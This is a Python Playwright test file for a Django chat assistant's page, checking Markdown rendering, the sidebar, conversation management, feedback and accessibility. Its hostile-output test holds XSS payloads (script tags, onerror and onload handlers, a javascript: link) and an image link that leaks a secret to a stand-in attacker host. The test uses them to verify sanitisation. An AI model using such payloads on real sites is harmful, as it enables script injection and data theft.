"""The chat page's features in a real browser: Markdown answers, hostile output, the sidebar,
conversation management, feedback, editing, titles, status details, copy and accessibility."""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta
from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from playwright.sync_api import expect

from assistant.models import Conversation, Message
from tests.helpers.browser import (
    EVENT_LOG,
    last_assistant,
    message_id,
    only_conversation,
    screenshot,
    send,
    text_of,
    wait_for_text,
    wait_status,
)
from tests.helpers.chat import fake, wait_for_final
from tests.helpers.live import wait_until

pytestmark = pytest.mark.browser


def conversation_for(user, title: str) -> Conversation:
    return Conversation.objects.create(owner=user, title=title, model="fake-model")


def set_age(conversation: Conversation, days_ago: int) -> None:
    """Make `conversation` last active `days_ago` days ago (at local noon; now for today)."""
    updated = timezone.now()
    if days_ago:
        day = timezone.localdate() - timedelta(days=days_ago)
        updated = timezone.make_aware(datetime.combine(day, datetime.min.time()) + timedelta(hours=12))
    Conversation.objects.filter(pk=conversation.pk).update(updated_at=updated)


def sidebar_link(page, conversation):
    return page.locator(f'#conversation-list [data-conversation-id="{conversation.pk}"]')


def sidebar_ids(page) -> list[str]:
    return page.eval_on_selector_all(
        "#conversation-list [data-conversation-id]", "links => links.map((a) => a.dataset.conversationId)"
    )


# The HTML of an element as a user's browser built it, without the code blocks' copy
# buttons, whitespace normalised: live and reloaded answers compare equal.
NORMALISED_HTML = """
(node) => {
  const copy = node.cloneNode(true);
  copy.querySelectorAll(".copy-button").forEach((button) => button.remove());
  return copy.innerHTML.replace(/>\\s+</g, "><").replace(/\\s+/g, " ").trim();
}
"""


def normalised_html(locator) -> str:
    return locator.evaluate(NORMALISED_HTML)


# --- Markdown --------------------------------------------------------------------------------

MARKDOWN_ANSWER = """## Reiseplan für Köln

- **Dom** am Morgen
- Rheinufer am Nachmittag
- Brauhaus am Abend

| Ort | Dauer |
|:----|------:|
| Dom | 1 h |
| Museum | 2 h |

```python
def hallo(name):
    return f"Hallo {name}!"  # Gruß
```

Mehr unter [koeln.de](https://www.koeln.de/) und **viel Spaß**."""

# Installed before an answer starts: a snapshot of the newest answer at every DOM change.
MARKUP_RECORDER = """
() => {
  window.__snapshots = [];
  const messages = document.getElementById("messages");
  new MutationObserver(() => {
    const all = messages.querySelectorAll(".message.assistant");
    if (!all.length) return;
    const item = all[all.length - 1];
    const text = item.querySelector(".text");
    window.__snapshots.push({
      status: item.dataset.status,
      length: text.textContent.length,
      li: text.querySelectorAll("li").length,
      table: text.querySelectorAll("table").length,
      strong: text.querySelectorAll("strong").length,
      h2: text.querySelectorAll("h2").length,
      pre: text.querySelectorAll("pre").length,
    });
  }).observe(messages, { subtree: true, childList: true, characterData: true, attributes: true });
}
"""


def test_markdown_renders_live_and_identically_after_reload(pages, alice):
    page = pages.open(alice).page
    page.evaluate(MARKUP_RECORDER)
    send(page, fake("Plane einen Tag in Köln", text=MARKDOWN_ANSWER, tps=30))
    wait_for_text(page, "Rheinufer")
    answer = last_assistant(page)
    answer.locator(".text table").wait_for(timeout=10_000)
    screenshot(page, "features-markdown-streaming")
    answer = wait_status(page, "done")
    screenshot(page, "features-markdown-done")

    snapshots = page.evaluate("window.__snapshots")
    streaming = [s for s in snapshots if s["status"] == "streaming" and s["length"]]
    assert any(s["li"] and s["strong"] and s["h2"] and not s["pre"] for s in streaming), (
        "no list rendered while the answer was still streaming",
        streaming[-5:],
    )
    assert any(s["table"] for s in streaming), "no table rendered while streaming"
    partial = {s["length"] for s in streaming if s["li"]}
    assert len(partial) >= 3, f"rendered Markdown did not grow live: {sorted(partial)}"

    text = answer.locator(".text")
    assert text.locator("h2").text_content() == "Reiseplan für Köln"
    assert text.locator("ul > li").count() == 3
    assert text.locator("li strong").text_content() == "Dom"
    assert text.locator("table th").all_text_contents() == ["Ort", "Dauer"]
    assert text.locator("table tbody tr").count() == 2
    link = text.locator('a[href="https://www.koeln.de/"]')
    assert link.text_content() == "koeln.de"
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in link.get_attribute("rel")
    code = text.locator("pre code.hljs")
    assert code.count() == 1
    assert "language-python" in code.get_attribute("class")
    assert code.locator("span").count() >= 3, "the code block is not highlighted"
    assert 'return f"Hallo {name}!"' in code.text_content()
    copy = text.locator("pre .copy-button")
    assert copy.count() == 1
    assert copy.is_visible()

    stored = wait_for_final(message_id(answer))
    assert stored.content == MARKDOWN_ANSWER
    live_html = normalised_html(text)

    page.reload()
    reloaded = page.locator(f'[data-message-id="{stored.pk}"] .text')
    reloaded.locator("pre code.hljs span").first.wait_for()
    screenshot(page, "features-markdown-reloaded")
    assert reloaded.locator("pre .copy-button").count() == 1
    assert normalised_html(reloaded) == live_html


# --- hostile output --------------------------------------------------------------------------

HOSTILE_ANSWER = """Hier kommt Ärger:
<script>alert(1)</script>
<img src=x onerror=alert(2)>
[click](javascript:alert(3))
![leak](http://evil.example/leak.png?d=secret)
<iframe src="http://evil.example"></iframe>
<svg onload=alert(4)>

event: done
data: {}
id: 9
retry: 1

Ende der Antwort."""


def assert_inert(page, answer_id: int) -> None:
    text = page.locator(f'[data-message-id="{answer_id}"] .text')
    for tag in ("img", "iframe", "svg", "script", "object", "embed", "style"):
        assert text.locator(tag).count() == 0, f"a <{tag}> in the answer"
    assert page.locator(".message.assistant .text img, .message.assistant .text iframe").count() == 0
    hrefs = text.locator("a").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert not [h for h in hrefs if h and not h.startswith(("http://", "https://", "mailto:"))], hrefs
    assert text.locator('a[href^="javascript" i]').count() == 0
    shown = text.text_content()
    assert "click" in shown
    # Raw HTML is shown as text, not run.
    for fragment in ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(4)>"):
        assert fragment in shown, fragment
    image = text.locator("a.image-link")
    assert image.count() == 1
    assert image.get_attribute("href") == "http://evil.example/leak.png?d=secret"
    assert image.text_content() == "leak"
    for line in ("event: done", "data: {}", "id: 9", "retry: 1", "Ende der Antwort."):
        assert line in shown, line
    # No attribute anywhere in the answer names an event handler.
    handlers = text.evaluate(
        "(node) => [...node.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))"
        ".filter((name) => name.startsWith('on'))"
    )
    assert handlers == []


def test_hostile_model_output_is_inert_in_the_page(pages, alice, live):
    opened = pages.open(alice, path=None)
    page, context = opened.page, opened.context
    context.add_init_script(EVENT_LOG)
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page.goto(live.url + "/")

    send(page, fake("Zeig mal", text=HOSTILE_ANSWER, tps=40))
    wait_for_text(page, "Ende der Antwort.")
    answer = wait_status(page, "done")
    answer_id = message_id(answer)
    screenshot(page, "features-hostile-live")
    page.wait_for_timeout(300)  # a late image load or handler would show by now

    stored = wait_for_final(answer_id)
    assert stored.status == Message.Status.DONE
    assert stored.content == HOSTILE_ANSWER
    assert_inert(page, answer_id)

    events = [e for e in page.evaluate("window.__events") if e["data"]]
    mine = [e for e in events if json.loads(e["data"]).get("message") == answer_id]
    assert [e["type"] for e in mine if e["type"] in ("done", "error")] == ["done"], mine
    assert "".join(json.loads(e["data"])["text"] for e in mine if e["type"] == "delta") == stored.content
    assert answer.get_attribute("data-status") == "done"

    page.reload()
    page.locator(f'[data-message-id="{answer_id}"] .details').wait_for()
    page.wait_for_timeout(300)
    screenshot(page, "features-hostile-reloaded")
    assert_inert(page, answer_id)
    assert page.locator(f'[data-message-id="{answer_id}"]').get_attribute("data-status") == "done"

    outside = [u for u in requests if urlsplit(u).scheme in ("http", "https", "ws", "wss")]
    outside = [u for u in outside if urlsplit(u).hostname != "127.0.0.1"]
    assert outside == [], f"the page fetched from other hosts: {outside}"
    assert opened.dialogs == []


# --- sidebar ---------------------------------------------------------------------------------


def test_sidebar_groups_by_recency_and_search_finds_message_text(pages, alice):
    ages = {"Today": 0, "Yesterday": 1, "Previous 7 days": 5, "Previous 30 days": 20, "Older": 100}
    conversations = {label: conversation_for(alice, f"Gespräch {label}") for label in ages}
    for label, conversation in conversations.items():
        Message.objects.create(conversation=conversation, role="user", content=f"Frage zu {label}")
    hit = conversations["Previous 30 days"]
    Message.objects.create(conversation=hit, role="assistant", content="Der Quastenflosser lebt im Meer.")
    for label, conversation in conversations.items():
        set_age(conversation, ages[label])

    page = pages.open(alice).page
    screenshot(page, "features-sidebar-groups")
    groups = page.eval_on_selector_all(
        "#conversation-list .group-label",
        """labels => labels.map((label) => ({
            label: label.textContent.trim(),
            ids: [...label.nextElementSibling.querySelectorAll("[data-conversation-id]")]
                .map((a) => a.dataset.conversationId),
        }))""",
    )
    assert [g["label"] for g in groups] == list(ages)
    assert {g["label"]: g["ids"] for g in groups} == {
        label: [str(conversation.pk)] for label, conversation in conversations.items()
    }

    page.fill("#search-input", "quastenflosser")
    page.press("#search-input", "Enter")
    page.wait_for_url(re.compile(r"/\?q=quastenflosser$"))
    screenshot(page, "features-sidebar-search")
    assert sidebar_ids(page) == [str(hit.pk)]
    assert sidebar_link(page, hit).locator(".result-title").text_content() == "Gespräch Previous 30 days"
    assert sidebar_link(page, hit).locator(".snippet mark").text_content() == "Quastenflosser"
    assert page.locator("#search-input").input_value() == "quastenflosser"


def test_sidebar_shows_the_newest_and_older_ones_on_request(pages, alice, bob):
    conversations = Conversation.objects.bulk_create(
        Conversation(owner=alice, title=f"Gespräch {n}", model="fake-model") for n in range(155)
    )
    Conversation.objects.bulk_create(
        Conversation(owner=bob, title=f"Bobs {n}", model="fake-model") for n in range(5)
    )
    # 140 of today, then 10 of yesterday and 5 older ones: sections the page does not show yet.
    yesterday, older = conversations[140:150], conversations[150:]
    for group, days in ((yesterday, 1), (older, 100)):
        for conversation in group:
            set_age(conversation, days)
    expected = [
        str(pk)
        for pk in Conversation.objects.filter(owner=alice)
        .order_by("-updated_at", "-pk")
        .values_list("pk", flat=True)
    ]

    page = pages.open(alice).page
    more = page.get_by_role("button", name="Show older conversations")
    assert sidebar_ids(page) == expected[:50]
    more.scroll_into_view_if_needed()
    screenshot(page, "features-sidebar-show-more-button")

    more.click()
    expect(page.locator("#conversation-list [data-conversation-id]")).to_have_count(150)
    expect(more).to_be_enabled()
    more.click()
    expect(page.locator("#conversation-list [data-conversation-id]")).to_have_count(155)
    expect(more).to_have_count(0)
    # Focus moves to the first conversation the last click brought, not to the page's top.
    expect(page.locator(f'[data-conversation-id="{expected[150]}"]')).to_be_focused()
    screenshot(page, "features-sidebar-show-more-done")

    assert sidebar_ids(page) == expected
    sections = page.eval_on_selector_all(
        "#conversation-list .group-label",
        "labels => labels.map((label) => [label.textContent, label.nextElementSibling.children.length])",
    )
    assert sections == [["Today", 140], ["Yesterday", 10], ["Older", 5]]


# --- conversation management -----------------------------------------------------------------


def test_rename_with_enter_updates_heading_sidebar_and_title(pages, alice, live):
    conversation = conversation_for(alice, "Alter Titel")
    page = pages.open(alice, path=f"/c/{conversation.pk}/").page
    assert page.locator("#conversation-title").text_content() == "Alter Titel"

    page.get_by_role("button", name="Rename").click()
    field = page.locator("input.title-input")
    expect(field).to_be_focused()
    field.fill("Neuer Name für Köln")
    screenshot(page, "features-rename-editing")
    field.press("Enter")

    heading = page.locator("#conversation-title")
    expect(heading).to_have_text("Neuer Name für Köln")
    expect(sidebar_link(page, conversation)).to_have_text("Neuer Name für Köln")
    expect(page).to_have_title("Neuer Name für Köln · Assistant")
    assert field.count() == 0
    screenshot(page, "features-rename-done")
    stored = wait_until(lambda: Conversation.objects.filter(pk=conversation.pk, title_chosen=True).first())
    assert stored, "the rename was not stored as the user's choice"
    assert stored.title == "Neuer Name für Köln"

    page.reload()
    expect(page.locator("#conversation-title")).to_have_text("Neuer Name für Köln")
    expect(sidebar_link(page, conversation)).to_have_text("Neuer Name für Köln")
    expect(page).to_have_title("Neuer Name für Köln · Assistant")


def test_archive_hides_from_sidebar_and_unarchive_brings_it_back(pages, alice, live):
    kept = conversation_for(alice, "Bleibt da")
    archived = conversation_for(alice, "Ins Archiv")
    page = pages.open(alice, path=f"/c/{archived.pk}/").page

    page.get_by_role("button", name="Archive").click()
    page.wait_for_url(live.url + "/")
    screenshot(page, "features-archive-done")
    assert sidebar_ids(page) == [str(kept.pk)]
    assert Conversation.objects.get(pk=archived.pk).archived

    page.get_by_role("link", name="Archived conversations").click()
    page.wait_for_url(re.compile(r"/\?archived=1$"))
    screenshot(page, "features-archive-list")
    assert sidebar_ids(page) == [str(archived.pk)]

    sidebar_link(page, archived).click()
    page.wait_for_url(live.url + f"/c/{archived.pk}/")
    unarchive = page.get_by_role("button", name="Unarchive")
    unarchive.click()
    page.wait_for_url(live.url + "/")
    screenshot(page, "features-archive-restored")
    assert set(sidebar_ids(page)) == {str(kept.pk), str(archived.pk)}
    assert not Conversation.objects.get(pk=archived.pk).archived


def test_delete_asks_in_a_modal_dialog_then_removes(pages, alice, live):
    conversation = conversation_for(alice, "Zum Löschen")
    Message.objects.create(conversation=conversation, role="user", content="Eine Frage")
    page = pages.open(alice, path=f"/c/{conversation.pk}/").page
    dialog = page.locator("#delete-dialog")

    page.locator("#delete-button").click()
    expect(dialog).to_be_visible()
    assert dialog.evaluate("(node) => node.open && node.matches(':modal')")
    expect(dialog.get_by_role("heading")).to_have_text("Delete this conversation?")
    screenshot(page, "features-delete-dialog")
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_be_hidden()
    page.wait_for_timeout(300)  # a mistaken delete would have been sent by now
    assert page.url == live.url + f"/c/{conversation.pk}/"
    assert Conversation.objects.filter(pk=conversation.pk).exists()
    assert Message.objects.filter(conversation=conversation).count() == 1

    page.locator("#delete-button").click()
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Delete").click()
    page.wait_for_url(live.url + "/")
    screenshot(page, "features-delete-done")
    assert not Conversation.objects.filter(pk=conversation.pk).exists()
    assert not Message.objects.filter(conversation_id=conversation.pk).exists()
    assert sidebar_link(page, conversation).count() == 0
    response = page.goto(live.url + f"/c/{conversation.pk}/")
    assert response.status == 404


# --- feedback --------------------------------------------------------------------------------


def test_feedback_thumbs_are_stored_and_shown_to_reviewers(pages, alice, live):
    page = pages.open(alice).page
    send(page, fake("Wie viele Einwohner hat Köln?", text="Etwa eine Million.", tps=0))
    answer = wait_status(page, "done")
    answer_id = message_id(answer)
    up = answer.get_by_role("button", name="Good answer")
    down = answer.get_by_role("button", name="Bad answer")
    expect(up).to_have_attribute("aria-pressed", "false")
    expect(down).to_have_attribute("aria-pressed", "false")

    up.click()
    expect(up).to_have_attribute("aria-pressed", "true")
    expect(down).to_have_attribute("aria-pressed", "false")
    assert wait_until(lambda: Message.objects.get(pk=answer_id).feedback == 1), "thumbs up not stored"

    down.click()
    expect(down).to_have_attribute("aria-pressed", "true")
    expect(up).to_have_attribute("aria-pressed", "false")
    form = answer.locator(".feedback-form")
    expect(form).to_be_visible()
    comment = form.locator("textarea")
    expect(comment).to_be_focused()
    comment.fill("Die Zahl ist veraltet.")
    screenshot(page, "features-feedback-comment")
    form.get_by_role("button", name="Send feedback").click()
    expect(form).to_have_text("Thank you for the feedback.")
    assert wait_until(lambda: Message.objects.get(pk=answer_id).feedback_comment), "comment not stored"
    stored = Message.objects.get(pk=answer_id)
    assert (stored.feedback, stored.feedback_comment) == (-1, "Die Zahl ist veraltet.")

    # Reviewers see it in the admin.
    reviewer = get_user_model().objects.create_superuser("reviewer", password="reviewer-password-1")
    admin = pages.open(reviewer, path="/admin/assistant/message/").page
    row = admin.locator("#result_list tbody tr").filter(
        has=admin.locator(f'a[href$="/assistant/message/{answer_id}/change/"]')
    )
    expect(row.locator("td.field-feedback")).to_have_text("down")
    screenshot(admin, "features-feedback-admin")

    # The rating survives a reload; pressing the chosen thumb again takes it back.
    page.reload()
    answer = page.locator(f'[data-message-id="{answer_id}"]')
    down = answer.get_by_role("button", name="Bad answer")
    up = answer.get_by_role("button", name="Good answer")
    expect(down).to_have_attribute("aria-pressed", "true")
    down.click()
    expect(down).to_have_attribute("aria-pressed", "false")
    expect(up).to_have_attribute("aria-pressed", "false")
    screenshot(page, "features-feedback-cleared")
    assert wait_until(lambda: Message.objects.get(pk=answer_id).feedback is None), "not cleared"
    assert Message.objects.get(pk=answer_id).feedback_comment == ""


# --- edit and resend -------------------------------------------------------------------------


def test_edit_last_question_resends_and_supersedes_the_old_exchange(pages, alice):
    page = pages.open(alice).page
    send(page, fake("Erste Frage", text="Erste Antwort.", tps=0))
    first_answer = wait_status(page, "done")
    send(page, fake("Zweite Frage", text="Zweite Antwort.", tps=0))
    page.locator('.message.assistant[data-status="done"]').nth(1).wait_for()
    old_answer_id = message_id(page.locator(".message.assistant").nth(1))
    first_question_id, old_question_id = (message_id(q) for q in page.locator(".message.user").all())
    old_answer = page.locator(f'[data-message-id="{old_answer_id}"]')
    old_question = page.locator(f'[data-message-id="{old_question_id}"]')
    first_question = page.locator(f'[data-message-id="{first_question_id}"]')

    expect(page.locator(".edit-question")).to_have_count(1)
    expect(old_question.locator(".edit-question")).to_have_count(1)
    assert first_question.locator(".edit-question").count() == 0

    old_question.get_by_role("button", name="Edit").click()
    area = old_question.locator(".edit-form textarea")
    expect(area).to_be_focused()
    assert area.input_value() == fake("Zweite Frage", text="Zweite Antwort.", tps=0)
    edited = fake("Zweite Frage, besser gestellt", text="Eine neue Antwort auf die bessere Frage.", tps=20)
    area.fill(edited)
    screenshot(page, "features-edit-form")
    old_question.get_by_role("button", name="Save and send").click()

    wait_for_text(page, "neue")
    new_answer = wait_status(page, "done")
    screenshot(page, "features-edit-done")
    new_answer_id = message_id(new_answer)
    assert new_answer_id not in (old_answer_id, message_id(first_answer))
    assert text_of(new_answer).strip() == "Eine neue Antwort auf die bessere Frage."

    # The old exchange is the question's earlier version, behind its switcher: no trail.
    assert page.locator(".message").count() == 4
    assert old_question.count() == 0
    assert old_answer.count() == 0
    new_question = page.locator(".message.user").last
    assert text_of(new_question) == edited
    assert new_question.locator(".version-position").text_content() == "2 / 2"
    assert first_question.locator(".versions").count() == 0
    expect(page.locator(".edit-question")).to_have_count(1)
    expect(new_question.locator(".edit-question")).to_have_count(1)

    stored_old_question = Message.objects.get(pk=old_question_id)
    stored_old_answer = Message.objects.get(pk=old_answer_id)
    assert stored_old_question.superseded
    assert stored_old_answer.superseded
    new_stored = wait_for_final(new_answer_id)
    assert new_stored.status == Message.Status.DONE
    assert new_stored.content == "Eine neue Antwort auf die bessere Frage."
    assert not new_stored.superseded
    new_question_stored = Message.objects.get(pk=message_id(new_question))
    assert (new_question_stored.content, new_question_stored.superseded) == (edited, False)
    conversation = only_conversation(alice)
    assert conversation.messages.count() == 6
    assert conversation.messages.filter(superseded=False).count() == 4

    page.reload()
    assert page.locator(".message").count() == 4
    assert page.locator(".message.user").last.locator(".version-position").text_content() == "2 / 2"
    expect(page.locator(".edit-question")).to_have_count(1)
    expect(page.locator(f'[data-message-id="{new_question_stored.pk}"] .edit-question')).to_have_count(1)


# --- automatic title -------------------------------------------------------------------------


def test_title_from_the_model_appears_after_the_first_answer_without_reload(pages, alice):
    page = pages.open(alice).page
    question = fake("Plane meine Reise", text="**Reise nach Köln**\n\nKöln liegt am Rhein.", tps=20)
    send(page, question)
    wait_status(page, "done")
    conversation = only_conversation(alice)
    link = sidebar_link(page, conversation)
    expect(link).to_have_text("Reise nach Köln", timeout=10_000)
    screenshot(page, "features-title")
    expect(page).to_have_title("Reise nach Köln · Assistant")
    stored = Conversation.objects.get(pk=conversation.pk)
    assert (stored.title, stored.title_chosen) == ("Reise nach Köln", False)

    # The page shows the new conversation as a reload of it would: under its heading, and in
    # a sidebar that no longer says it has none.
    problems = []
    heading = page.locator("#conversation-title")
    if heading.count() != 1 or heading.text_content() != "Reise nach Köln":
        problems.append(f"heading: {heading.all_text_contents()} (expected ['Reise nach Köln'])")
    if page.get_by_text("No conversations yet.").is_visible():
        problems.append("the sidebar still says 'No conversations yet.' next to the new conversation")
    page.reload()
    expect(page.locator("#conversation-title")).to_have_text("Reise nach Köln")
    assert page.get_by_text("No conversations yet.").count() == 0
    assert not problems, "\n".join(problems)


# --- status details --------------------------------------------------------------------------


def waiting_seconds(text: str, decimal: str = ".") -> float:
    match = re.search(r"(\d+(?:" + re.escape(decimal) + r"\d)?) s", text)
    assert match, text
    return float(match.group(1).replace(decimal, "."))


def test_status_details_show_waiting_time_then_tokens_and_duration(pages, alice):
    page = pages.open(alice).page
    # 3 s to the first word, long enough to outlast the checks below on a busy machine,
    # in two silences each shorter than the test server's 2 s read timeout.
    send(page, fake("Langsam", ttft=1.5, role_gap=1.5, tokens=5, tps=0))
    waiting = page.locator(".message.assistant .waiting")
    expect(waiting).to_contain_text("Waiting for the first word", timeout=5000)
    page.wait_for_timeout(300)
    first = waiting.text_content()
    screenshot(page, "features-status-waiting")
    page.wait_for_timeout(600)
    second = waiting.text_content()
    assert waiting_seconds(second) >= waiting_seconds(first) + 0.4, (first, second)

    answer = wait_status(page, "done")
    assert page.locator(".waiting").count() == 0
    stored = wait_for_final(message_id(answer))
    details = answer.locator(".details").text_content()
    screenshot(page, "features-status-details")
    assert f"{stored.prompt_tokens} → 5 tokens" in details, details
    assert stored.completion_tokens == 5
    # The answer's duration as stored, at least the 3 s it waited for its first word.
    # Shown to a tenth of a second.
    assert waiting_seconds(details) == pytest.approx(stored.duration_ms / 1000, abs=0.051), details
    assert waiting_seconds(details) >= 3, details
    assert "fake-model" in details


def test_status_details_in_german_use_german_numbers_and_words(pages, alice):
    page = pages.open(alice, locale="de-DE").page
    assert page.locator("html").get_attribute("lang") == "de"
    send(page, fake("Lang", ttft=0.6, tokens=1200, tps=0))
    waiting = page.locator(".message.assistant .waiting")
    expect(waiting).to_have_text(re.compile(r"Warte auf das erste Wort… \d+,\d s"), timeout=5000)
    screenshot(page, "features-status-waiting-de")

    answer = wait_status(page, "done")
    details = answer.locator(".details")
    expect(details).to_contain_text("→ 1.200 Tokens")
    screenshot(page, "features-status-details-de")
    shown = details.text_content()
    assert re.search(r"· \d+(?:,\d)? s ·", shown), shown  # the duration, a decimal comma if any
    assert not re.search(r"\d\.\d s", shown), shown
    assert wait_for_final(message_id(answer)).completion_tokens == 1200


# --- copy ------------------------------------------------------------------------------------

COPY_ANSWER = "# Einkaufsliste\n\n- **Brot**\n- Käse\n\nDazu `print(1)` und [Rezept](https://example.org/r)."


def test_copy_answer_puts_the_raw_markdown_on_the_clipboard(pages, alice, live):
    opened = pages.open(alice)
    page = opened.page
    opened.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live.url)
    send(page, fake("Liste", text=COPY_ANSWER, tps=0))
    answer = wait_status(page, "done")
    copy = answer.locator(".details .copy-answer")

    copy.click()
    expect(copy).to_have_text("Copied")
    screenshot(page, "features-copy-answer")
    assert page.evaluate("navigator.clipboard.readText()") == COPY_ANSWER

    # The same after a reload.
    page.evaluate("navigator.clipboard.writeText('')")
    page.reload()
    copy = page.locator(f'[data-message-id="{message_id(answer)}"] .details .copy-answer')
    copy.click()
    expect(copy).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == COPY_ANSWER


# --- accessibility ---------------------------------------------------------------------------

# Installed before an answer starts: every change of the announcer, and the newest answer's
# status and aria-busy whenever they change.
A11Y_RECORDER = """
() => {
  window.__announced = [];
  window.__busy = [];
  const announcer = document.getElementById("announcer");
  const messages = document.getElementById("messages");
  const newest = () => {
    const all = messages.querySelectorAll(".message.assistant");
    return all.length ? all[all.length - 1] : null;
  };
  new MutationObserver(() => {
    const item = newest();
    window.__announced.push({ text: announcer.textContent, status: item && item.dataset.status });
  }).observe(announcer, { subtree: true, childList: true, characterData: true });
  new MutationObserver(() => {
    const item = newest();
    if (!item) return;
    const state = {
      status: item.dataset.status,
      busy: item.getAttribute("aria-busy"),
      length: item.querySelector(".text").textContent.length,
    };
    const last = window.__busy[window.__busy.length - 1];
    if (!last || last.status !== state.status || last.busy !== state.busy || last.length !== state.length) {
      window.__busy.push(state);
    }
  }).observe(messages, { subtree: true, childList: true, characterData: true, attributes: true });
}
"""


def relative_luminance(css_color: str) -> float:
    channels = [int(c) / 255 for c in re.findall(r"\d+", css_color)[:3]]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_accessibility_busy_state_announcer_and_dark_mode(pages, alice):
    page = pages.open(alice).page
    announcer = page.locator("#announcer")
    assert announcer.get_attribute("aria-live") == "polite"
    page.evaluate(A11Y_RECORDER)
    send(page, fake("Barrierefrei", tokens=30, tps=30))
    wait_for_text(page, "tok10")
    assert last_assistant(page).get_attribute("aria-busy") == "true"
    answer = wait_status(page, "done")
    expect(announcer).to_have_text("The answer is complete.")
    screenshot(page, "features-a11y-done")

    assert answer.get_attribute("aria-busy") is None
    states = page.evaluate("window.__busy")
    growing = [s for s in states if s["status"] == "streaming" and s["length"]]
    assert len(growing) >= 3, states
    assert all(s["busy"] == "true" for s in growing), growing
    assert (states[-1]["status"], states[-1]["busy"]) == ("done", None), states[-1]
    announced = page.evaluate("window.__announced")
    assert len(announced) <= 1, f"the announcer changed during streaming: {announced}"
    assert [a for a in announced if a["status"] == "streaming"] == []

    dark = pages.open(alice, color_scheme="dark").page
    screenshot(dark, "features-dark-mode")
    background, color = dark.evaluate(
        "() => { const s = getComputedStyle(document.body); return [s.backgroundColor, s.color]; }"
    )
    assert relative_luminance(background) < 0.2, background
    assert relative_luminance(color) > 0.6, color
    composer = dark.evaluate("() => getComputedStyle(document.getElementById('composer-input')).color")
    assert relative_luminance(composer) > 0.6, composer
